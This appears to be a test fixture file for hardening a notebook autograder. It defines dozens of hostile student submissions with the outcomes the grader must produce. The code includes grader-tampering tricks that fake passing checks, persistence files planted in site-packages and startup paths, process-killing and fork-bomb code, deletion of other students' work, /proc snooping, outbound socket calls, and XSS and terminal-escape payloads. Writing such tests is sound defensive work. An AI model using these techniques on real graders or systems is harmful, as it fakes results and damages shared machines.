"""The attack table: ways to get points for a wrong answer, or to harm the grader or others.  One entry for each row.

An attack is a submission to the tiny lab with a wrong ``add`` (q1, 3 points) and a right ``double`` (q2, 2 points), or
a whole folder of files.  ``boxed`` and ``bare`` say what must come of it behind the box and without: the status, the
points of q1 and q2, and flags that must be there.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from .corpus import MISTAKES, RUNAWAY, WRONG, answers

LINE = "print('q1: 3/3 checks passed')"
SHELL = "get_ipython()"
STOPPED = ("ok", 0, 2, frozenset())
#: Without an ``add``, q2's check has nothing to call either.
NO_POINTS = ("ok", 0, 0, frozenset())
#: An answer that the lab's own check in the kernel believes, although it is wrong; the verify stage must not.
BELIEVED = ("ok", 0, 2, frozenset({"mismatch"}))


@dataclass(frozen=True)
class Attack:
    """Row ``number`` of the table.

    ``boxed`` and ``bare`` are ``(status, q1, q2, flags)``; ``bare`` is ``None`` for what is not run without the box.
    """

    number: int
    name: str
    code: str = ""
    data: bytes = b""
    boxed: tuple = STOPPED
    bare: tuple | None = None

    @property
    def student(self) -> str:
        return f"row{self.number:02}_{self.name}"

    def submission(self, root: Path, port: int, line: Path) -> bytes:
        """Return the notebook, with what is outside of the box: the course, a port and a socket that listen."""
        if self.data:
            return self.data
        places, code = {"{root}": str(root), "{port}": str(port), "{socket}": str(line)}, self.code
        for place, value in places.items():
            code = code.replace(place, value)
        return answers(code)


def flagged(outcome: tuple, *flags: str) -> tuple:
    return (*outcome[:3], outcome[3] | set(flags))


#: Says whether this is the notebook's kernel, where the lab's own check runs, or the verify stage.
IN_KERNEL = """
def in_kernel():
    try:
        return get_ipython() is not None
    except NameError:
        return False
"""


def only_when_verified(attack: str) -> str:
    """Return a right answer in the kernel that does ``attack`` in the verify stage."""
    body = "".join(f"        {line}\n" for line in attack.splitlines())
    return f"{IN_KERNEL}\ndef add(left, right):\n    if not in_kernel():\n{body}    return left + right\n"


CHANNELS = """import gc, json, os, socket, struct, time
def frames(*datas):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            for data in datas:
                try:
                    thing.sendall(data)
                except OSError:
                    pass
def framed(data):
    return struct.pack("!I", len(data)) + data
"""

IN_THE_KERNEL = [
    Attack(
        1,
        "replaces_the_check",
        f"from utils.checks import tiny\ntiny.q1 = lambda *a: {LINE}\n" + WRONG,
        boxed=BELIEVED,
    ),
    Attack(
        2,
        "replaces_the_module",
        "import sys, types\nfake = types.ModuleType('tiny')\n"
        f"fake.q1 = lambda *a: {LINE}\nfake.q2 = lambda *a: print('q2: 2/2 checks passed')\n"
        "sys.modules['utils.checks.tiny'] = fake\ntiny = fake\n" + WRONG,
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        3,
        "swaps_the_code",
        f"from utils.checks import tiny\ndef other(add):\n    {LINE}\ntiny.q1.__code__ = other.__code__\n"
        + WRONG,
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        4,
        "hooks_the_import",
        "import sys, importlib.abc, importlib.util\n"
        "class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, name, path, target=None):\n"
        "        return importlib.util.spec_from_loader(name, self) if name == 'utils.checks.tiny' else None\n"
        "    def exec_module(self, module):\n"
        f"        module.q1 = lambda *a: {LINE}\n        module.q2 = lambda *a: print('q2: 2/2 checks passed')\n"
        "sys.meta_path.insert(0, Finder())\nsys.modules.pop('utils.checks.tiny', None)\n"
        "import utils.checks\nvars(utils.checks).pop('tiny', None)\nfrom utils.checks import tiny\n" + WRONG,
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        5,
        "overwrites_the_file",
        "from utils.checks import tiny\nimport glob, importlib, os, sys\n"
        "text = \"def q1(add):\\n    print('q1: 3/3 checks passed')\\ndef q2(*a):\\n    1 / 0\\n\"\n"
        "for place in [tiny.__file__, *glob.glob('{root}/utils/checks/tiny.py')]:\n"
        "    try:\n        open(place, 'w').write(text)\n    except OSError:\n        pass\n"
        f"tiny.q1 = lambda *a: {LINE}\n" + WRONG,
        boxed=flagged(BELIEVED, "suspicious_api"),
        bare=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        6,
        "swallows_the_error",
        "from utils.checks import tiny\nreal = tiny.q1\ndef quiet(add):\n    try:\n        real(add)\n"
        f"    except AssertionError:\n        {LINE}\ntiny.q1 = quiet\n" + WRONG,
        boxed=BELIEVED,
    ),
    Attack(
        7,
        "rewrites_print",
        "import builtins\nold = print\nbuiltins.print = lambda *a, **k: old('q1: 3/3 checks passed')\n"
        + WRONG,
        boxed=NO_POINTS,
    ),
    Attack(8, "hides_the_traceback", f"{SHELL}.showtraceback = None\n" + WRONG),
    Attack(9, "prints_instead_of_the_traceback", f"{SHELL}.showtraceback = lambda *a, **k: {LINE}\n" + WRONG),
    Attack(
        10,
        "transforms_the_check",
        f"def change(lines):\n    return [\"{LINE}\\n\"] if 'tiny.q1' in ''.join(lines) else lines\n"
        f"{SHELL}.input_transformers_cleanup.append(change)\n" + WRONG,
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        11,
        "rewrites_the_tree",
        "import ast\nclass Change(ast.NodeTransformer):\n    def visit_Call(self, node):\n"
        "        if 'q1' in ast.dump(node.func):\n"
        f'            return ast.parse("{LINE}").body[0].value\n        return node\n'
        f"{SHELL}.ast_transformers.append(Change())\n" + WRONG,
        boxed=BELIEVED,
    ),
    Attack(
        12,
        "hooks_before_the_cell",
        f"from utils.checks import tiny\ndef hook(*a):\n    tiny.q1 = lambda *a: {LINE}\n"
        f"{SHELL}.events.register('pre_run_cell', hook)\n" + WRONG,
        boxed=BELIEVED,
    ),
    Attack(
        13,
        "patches_the_session",
        f"kernel = {SHELL}.kernel\nreal = kernel.session.send\n"
        "def send(stream, kind, content=None, *a, **k):\n"
        "    if kind == 'error':\n"
        "        kind, content = 'stream', {'name': 'stdout', 'text': 'q1: 3/3 checks passed\\n'}\n"
        "    return real(stream, kind, content, *a, **k)\nkernel.session.send = send\n" + WRONG,
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        14,
        "is_equal_to_everything",
        "class E(int):\n    def __ne__(self, o):\n        return False\n    __eq__ = lambda self, o: True\n"
        "def add(left, right):\n    return E(0)\n",
        boxed=BELIEVED,
    ),
    Attack(
        15,
        "reads_the_caller",
        "import sys\ndef add(left, right):\n    frame = sys._getframe(1)\n    while frame:\n"
        "        if 'expected' in frame.f_locals:\n            return frame.f_locals['expected']\n"
        "        if 'left' in frame.f_locals:\n"
        "            return frame.f_locals['left'] + frame.f_locals['right']\n        frame = frame.f_back\n    return 0\n",
        boxed=BELIEVED,
    ),
    Attack(
        16,
        "writes_into_the_caller",
        "import ctypes, sys\ndef add(left, right):\n    frame = sys._getframe(1)\n"
        "    if 'left' in frame.f_locals:\n"
        "        frame.f_locals.update(left=0, right=0)\n"
        "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n    return 0\n",
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        17,
        "hunts_the_objects",
        "import gc\ndef add(left, right):\n"
        "    known = [o for o in gc.get_objects() if type(o) is dict and 'expected' in o]\n"
        "    return {(1, 2): 3, (-3, 3): 0, (10, 5): 15}.get((left, right), known and known[0]['expected'] or 0)\n",
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        18,
        "sends_a_pickle",
        "class Payload(int):\n    def __reduce__(self):\n        return exec, ('raise SystemExit',)\n"
        "    def __ne__(self, other):\n        return False\ndef add(left, right):\n    return Payload()\n",
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        19,
        "writes_the_verdict_itself",
        "import glob, json, os\n"
        "line = (json.dumps({'id': 'q1-check', 'outcome': 'passed'}) + '\\n').encode()\n"
        "for place in glob.glob('/proc/[0-9]*/fd/*'):\n    try:\n"
        "        if 'pipe' in os.readlink(place):\n"
        "            handle = os.open(place, os.O_WRONLY | os.O_NONBLOCK)\n"
        "            os.write(handle, line)\n            os.close(handle)\n    except OSError:\n        pass\n"
        + CHANNELS
        + only_when_verified(
            "frames(framed(json.dumps({'op': 'result', 'id': 'x', 'value': {'__dict__': [['value', left + right],"
            " ['printed', '']]}}).encode()))\nos._exit(0)"
        ),
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
]

RUNAWAYS = [
    Attack(
        20,
        "swallows_the_interrupt",
        data=RUNAWAY["swallows_interrupt_q1"][0],
        boxed=("timeout", 0, 2, frozenset()),
    ),
    Attack(
        22,
        "kills_its_parents",
        "import os, signal\npid = int(os.environ.get('JPY_PARENT_PID', os.getppid()))\nfor victim in (pid, os.getppid()):\n"
        "    if victim > 1:\n        try:\n            os.kill(victim, signal.SIGKILL)\n        except OSError:\n"
        "            pass\nimport time; time.sleep(1)\n" + WRONG,
        boxed=("crashed", 0, 2, frozenset({"suspicious_api"})),
        bare=("crashed", 0, 2, frozenset({"suspicious_api"})),
    ),
    Attack(
        23,
        "kills_everybody",
        "import os\nif len([name for name in os.listdir('/proc') if name.isdigit()]) < 20:  # only in a box\n"
        "    os.kill(-1, 9)\n    import time; time.sleep(1)\n" + WRONG,
        boxed=("crashed", 0, 2, frozenset({"suspicious_api"})),
    ),
    Attack(
        24,
        "leaves_in_the_check",
        "import atexit, os\natexit.register(os._exit, 0)\ndef add(left, right):\n    os._exit(0)\n",
        boxed=("crashed", 0, 2, frozenset({"suspicious_api"})),
    ),
    Attack(25, "leaves_after_printing", f"{LINE}\nimport sys; sys.exit(0)\n", boxed=NO_POINTS),
    Attack(26, "prints_the_line", f"{LINE}\n" + WRONG),
]

THE_NOTEBOOK = [
    *(
        Attack(27, name, data=MISTAKES[name][0])
        for name in ("check_deleted", "check_skipped", "check_is_text")
    ),
    Attack(28, "ids_changed", data=MISTAKES["ids_new_and_wrong"][0]),
    Attack(
        28,
        "check_named_as_answer",
        data=MISTAKES["check_named_as_answer"][0],
        boxed=flagged(STOPPED, "duplicate_cell"),
    ),
    Attack(29, "marker_lines", data=MISTAKES["marker_lines"][0]),
]

PLANTED = """try:
    import utils.checks.tiny as tiny
    tiny.q1 = lambda *a: print('q1: 3/3 checks passed')
    tiny.q2 = lambda *a: 1 / 0
except Exception:
    pass
open('{socket}.planted', 'w').close()
"""
#: Leaves code wherever Python, IPython, pytest, matplotlib or Jupyter may look for it later, and settings besides.
PLANTS = f"""import glob, os, pwd, site, sys
text = {PLANTED!r}
homes = {{os.path.expanduser('~'), pwd.getpwuid(os.getuid()).pw_dir, os.getcwd(), '{{root}}', os.environ.get('TMPDIR', '.')}}
homes |= set(os.environ.get('PYTHONPATH', '').split(os.pathsep)) | {{os.path.dirname(os.getcwd())}}
sites = [place for place in sys.path if place.endswith('site-packages')]
for home in homes:
    for name in ('sitecustomize.py', 'usercustomize.py', 'conftest.py', 'json.py', 'torch.py', 'nbval.py', 'pytest.ini',
                 '.pythonrc.py', '.ipython/profile_default/startup/00.py', 'profile_default/startup/00.py',
                 '.config/matplotlib/matplotlibrc', 'kernels/python3/kernel.json', 'utils/checks/tiny.py',
                 'utils/checks/__pycache__/x.pyc', '.local/lib/python3.11/site-packages/x.pth'):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            open(os.path.join(home, name), 'w').write(text)
        except OSError:
            pass
for place in sites + site.getsitepackages():
    try:
        open(os.path.join(place, 'course-attack.pth'), 'w').write('import os; open("{{socket}}.planted", "w")')
    except OSError:
        pass
os.environ.update(PYTHONSTARTUP=os.path.abspath('.pythonrc.py'), PYTEST_ADDOPTS='--collect-only', BASH_ENV='.pythonrc.py')
"""

#: The same where the tests may do it without the box: in the folder of a course that is the test's own.
PLANTS_IN_THE_COURSE = f"""import os
for name in ('sitecustomize.py', 'json.py', 'utils/checks/__pycache__/tiny.cpython-311.pyc', 'utils/checks/tiny.py'):
    try:
        os.makedirs(os.path.dirname(os.path.join('{{root}}', name)), exist_ok=True)
        open(os.path.join('{{root}}', name), 'w').write({PLANTED!r})
    except OSError:
        pass
"""

DAEMON = """import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 200)
        os.execve(sys.executable, [sys.executable, '-c', 'import time; time.sleep({seconds})'], {{}})
    os._exit(0)
"""

OTHERS = """import glob, os, shutil
for place in glob.glob('{root}/submissions/*') + glob.glob('{root}/out/*') + glob.glob('{root}/labs/*'):
    try:
        os.remove(place) if os.path.isfile(place) else shutil.rmtree(place)
    except OSError:
        pass
"""

CALLS_OUT = """import socket
def reach(address):
    try:
        socket.create_connection(address, timeout=0.5).sendall(b'the hidden tests')
    except OSError:
        pass
reach(('127.0.0.1', {port}))
def whisper(path):
    with socket.socket(socket.AF_UNIX) as line:
        try:
            line.connect(path)
            line.sendall(b'run this outside')
        except OSError:
            pass
whisper('{socket}')
"""

PEEKS = """import glob, os
found = []
for pid in {int(os.environ.get('JPY_PARENT_PID', 0)) or os.getppid(), os.getppid(), 1}:
    for name in ('environ', 'mem', 'fd', 'maps'):
        try:
            place = '/proc/%d/%s' % (pid, name)
            found.append(os.listdir(place) if name == 'fd' else open(place, 'r+b' if name == 'mem' else 'rb'))
        except OSError:
            pass
"""

READS_THE_SOLUTION = """import glob, json, os
def find():
    for path in glob.glob('{root}/**/01_tiny.ipynb', recursive=True):
        for cell in json.load(open(path))['cells']:
            source = ''.join(cell['source'])
            if 'the_sum_of_both' in source:
                return source
exec(find() or "def add(left, right):\\n    return 0")
"""

OUTSIDE = [
    Attack(
        21,
        "reads_the_solution",
        READS_THE_SOLUTION,
        boxed=flagged(STOPPED, "suspicious_api"),
        bare=("ok", 3, 2, frozenset({"suspicious_api"})),
    ),
    Attack(
        32,
        "plants_code",
        PLANTS + WRONG,
        boxed=flagged(STOPPED, "suspicious_api"),
    ),
    Attack(
        32,
        "plants_code_in_the_course",
        PLANTS_IN_THE_COURSE + WRONG,
        boxed=flagged(STOPPED, "suspicious_api"),
        bare=flagged(STOPPED, "suspicious_api"),
    ),
    Attack(
        33,
        "leaves_a_daemon",
        DAEMON.format(seconds=97) + WRONG,
        boxed=flagged(STOPPED, "leftover_processes", "suspicious_api"),
        bare=("ok", 0, 2, frozenset({"leftover_processes", "suspicious_api"})),
    ),
    Attack(
        33,
        "leaves_a_daemon_when_verified",
        only_when_verified(DAEMON.format(seconds=98) + "return 0"),
        boxed=flagged(BELIEVED, "suspicious_api"),
        bare=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(
        41,
        "deletes_what_others_have",
        OTHERS + WRONG,
        boxed=flagged(STOPPED, "suspicious_api"),
        bare=("ok", 0, 2, frozenset({"suspicious_api"})),
    ),
    Attack(
        42,
        "calls_out",
        CALLS_OUT + WRONG,
        boxed=flagged(STOPPED, "suspicious_api"),
        bare=("ok", 0, 2, frozenset({"suspicious_api"})),
    ),
    Attack(
        43,
        "peeks_into_the_checker",
        PEEKS + "def add(left, right):\n    return 0 if not found else left + right\n",
        boxed=flagged(STOPPED, "suspicious_api"),
        bare=("ok", None, 2, frozenset({"suspicious_api"})),
    ),
]

RESOURCES = [
    Attack(
        34,
        "forks_and_forks",
        "import os, time\nchildren = []\ntry:\n    for _ in range(2000):\n        child = os.fork()\n"
        "        if child == 0:\n            time.sleep(30)\n            os._exit(0)\n        children.append(child)\n"
        "except OSError:\n    pass\nprint('forked', len(children))\n"
        "def add(left, right):\n    return left + right if len(children) > 1000 else 0\n",
        boxed=("ok|timeout", 0, 2, frozenset({"suspicious_api"})),
    ),
    Attack(
        35,
        "eats_memory",
        "def add(left, right):\n    return bytearray(1 << 40) and left + right\n",
        bare=STOPPED,
    ),
    Attack(
        36,
        "fills_the_disk",
        "import os\nwritten = 0\ntry:\n    for name in range(9):\n        with open(str(name), 'wb') as file:\n"
        "            for _ in range(200):\n                written += file.write(bytes(1 << 20))\n"
        "except OSError:\n    pass\nfor name in range(9):\n    if os.path.exists(str(name)): os.remove(str(name))\n"
        "def add(left, right):\n    return left + right if written > 600 << 20 else 0\n",
        boxed=flagged(STOPPED, "suspicious_api"),
    ),
    Attack(37, "floods", "print('x' * 5_000_000)\n" + WRONG, boxed=("too_large", 0, 2, frozenset())),
    Attack(
        37,
        "floods_the_pipe_when_verified",
        CHANNELS
        + only_when_verified("frames(struct.pack('!I', 1 << 31) + bytes(1 << 20))\nreturn left + right"),
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
    Attack(38, "sleeps", data=RUNAWAY["sleeps_q1"][0], boxed=("timeout", 0, 2, frozenset())),
    Attack(
        38,
        "never_returns_when_verified",
        only_when_verified("while True: pass"),
        boxed=BELIEVED,
    ),
    Attack(
        39,
        "drips_when_verified",
        CHANNELS
        + only_when_verified(
            "frames(struct.pack('!I', 1000))\nwhile True:\n    frames(b' ')\n    time.sleep(0.05)"
        ),
        boxed=flagged(BELIEVED, "suspicious_api"),
    ),
]
RESOURCES += [
    Attack(
        40,
        name,
        CHANNELS + only_when_verified(f"frames(*map(framed, {bombs}))\nreturn left + right"),
        boxed=flagged(BELIEVED, "suspicious_api"),
    )
    for name, bombs in {
        "json_nested": "[b'[' * 900_000]",
        "json_wide": "[b'[' + b'[],' * 2_000_000 + b'1]']",
        "json_number": "[b'{\"a\": ' + b'9' * 10_000 + b'}']",
        "json_three_replies": '[b\'{"op": "wait", "number": 1}\'] * 3',
    }.items()
]
RESOURCES += [
    Attack(40, "bool_for_a_number", only_when_verified("return True"), boxed=BELIEVED),
    Attack(40, "nan_for_a_number", only_when_verified("return float('nan')"), boxed=BELIEVED),
]

ERROR_WITHOUT_TEXT = """class Nameless(Exception):
    def __str__(self):
        raise SystemExit(0)
    __repr__ = __str__
def add(left, right):
    raise Nameless
"""

WRITTEN = [
    Attack(
        44,
        "knows_the_inputs",
        "def add(left, right):\n    return {(1, 2): 3, (-3, 3): 0, (10, 5): 15}.get((left, right), 0)\n",
        boxed=BELIEVED,
    ),
    Attack(
        47,
        "markup",
        "print('</pre><script>alert(1)</script><img src=x onerror=alert(1)> \\x1b[2J \\x9b31m \\u202e')\n"
        "def add(left, right):\n    raise ValueError('<svg onload=alert(1)>\\x1b]0;title\\x07 \\u202e')\n",
    ),
    *(
        Attack(50, name, code, boxed=outcome)
        for name, code, outcome in (
            ("open_string", 'add = """\n', NO_POINTS),
            ("if_zero", WRONG + "if 0:\n", NO_POINTS),
            ("return_at_the_top", WRONG + "return\n", STOPPED),
            ("script_magic", f"%%script true\n{WRONG}", NO_POINTS),
            ("python_magic", f"%%python3\n{LINE}\n", NO_POINTS),
            ("halves_of_characters", "print('\\ud800')\ndef add(left, right):\n    raise ValueError('\\udfff')\n", STOPPED),
            ("long_sum", f"x = 0x{'f' * 9_000}{' + 1' * 900}\n{WRONG}", STOPPED),
            ("half_a_character_when_verified", only_when_verified("return '\\ud800'"), BELIEVED),
            ("circle_when_verified", only_when_verified("x = []; x.append(x)\nreturn x"), BELIEVED),
            ("error_that_cannot_be_shown", ERROR_WITHOUT_TEXT, STOPPED),
        )
    ),
]

BY_NOTEBOOK = [*IN_THE_KERNEL, *RUNAWAYS, *THE_NOTEBOOK, *OUTSIDE, *RESOURCES, *WRITTEN]
#: Rows that are not one notebook: each has its own test, named ``test_row_NN_…``.
BY_OWN_TEST = (30, 31, 45, 46, 48, 49, 51)
